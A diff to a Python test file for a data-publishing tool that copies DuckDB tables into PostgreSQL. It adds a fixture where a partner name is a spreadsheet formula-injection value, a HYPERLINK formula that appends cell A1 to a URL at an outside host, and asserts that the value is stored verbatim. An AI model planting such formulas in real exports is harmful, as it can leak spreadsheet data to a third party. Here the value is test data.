@@ -11,7 +11,7 @@ import psycopg
 import pytest
 
 from salesglass.errors import SalesglassError
-from salesglass.outputs.publish import publish_postgres, redact
+from salesglass.outputs.publish import publish_postgres
 from salesglass.warehouse import connect
 from tests.outputs.conftest import make_published
 
@@ -278,7 +278,6 @@ def test_errors_name_the_problem_without_the_password(tmp_path):
     with pytest.raises(SalesglassError) as err:
         publish_postgres(path, "postgresql://u:topsecret@127.0.0.1:1/db")
     assert "topsecret" not in str(err.value) and "u:***@127.0.0.1:1" in str(err.value)
-    assert redact("postgresql://u@h/db") == "postgresql://u@h/db"
 
 
 def test_a_view_built_on_the_old_publish_is_kept_working_and_reported(tmp_path, postgres_url, schema):
@@ -332,6 +331,7 @@ def test_a_nul_character_in_a_name_does_not_fail_the_publish(tmp_path, postgres_
     path = make_published(tmp_path / "r.duckdb")
     con = connect(path)
     con.execute("UPDATE partners SET name = 'Театр' || chr(0) || '\\N,\"x\"' WHERE partner_id = 'p2'")
+    con.execute("""UPDATE partners SET name = '=HYPERLINK("http://x.ru/?"&A1)' WHERE partner_id = 'p1'""")
     con.execute("CREATE TABLE report_payloads (payload JSON)")  # a JSON column: jsonb in PostgreSQL
     con.execute('INSERT INTO report_payloads VALUES (\'{"name": "a\\u0000b"}\')')
     con.close()
@@ -342,6 +342,10 @@ def test_a_nul_character_in_a_name_does_not_fail_the_publish(tmp_path, postgres_
             'Театр\ufffd\\N,"x"',
         )
         assert pg.execute(f"SELECT payload ->> 'name' FROM {schema}.report_payloads").fetchone() == ("a\ufffdb",)
+        # text as it is, formula-looking too: PostgreSQL holds data (docs/bi-tools.md says who escapes it)
+        assert pg.execute(f"SELECT name FROM {schema}.partners WHERE partner_id = 'p1'").fetchone() == (
+            '=HYPERLINK("http://x.ru/?"&A1)',
+        )
 
 
 def test_a_publishing_user_without_rights_or_a_missing_bi_role_is_told_what_to_do(tmp_path, postgres_url, schema):
